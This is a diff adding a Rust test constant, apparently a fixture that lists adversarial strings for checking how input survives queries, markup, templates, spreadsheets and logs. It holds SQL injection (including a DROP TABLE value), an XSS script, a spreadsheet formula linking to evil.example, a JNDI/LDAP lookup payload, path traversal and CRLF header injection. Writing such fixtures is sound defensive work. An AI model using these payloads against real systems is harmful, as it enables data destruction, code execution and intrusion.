@@ -1,0 +1,25 @@
+//! Texts that mean something to somebody on the way: to a query, a markup, a template, a spreadsheet, a log.
+
+pub(super) const TEXTS: &[&str] = &[
+    "x' OR Name LIKE '%",
+    "'; DROP TABLE leads; --",
+    "\\' OR 1=1 \\",
+    "<script>alert(1)</script>",
+    "</Value><Id>00Q000000000001</Id><Value>",
+    "{{ 7 * 7 }}{% for x in y %}",
+    "=HYPERLINK(\"https://evil.example\")",
+    "<!channel> & @everyone",
+    "a;b;c",
+    "%27%20OR%201%3D1",
+    "undefined",
+    "null",
+    "0",
+    "../../v1/destinations?x=1#y",
+    "line one\r\nBcc: eve@example.org",
+    "\u{202e}gnirps",
+    "nul \u{0} byte",
+    "👩‍💻 Ünïcode ✓",
+    "${jndi:ldap://evil}",
+    "\"quoted\", and, comma",
+    "__proto__",
+];
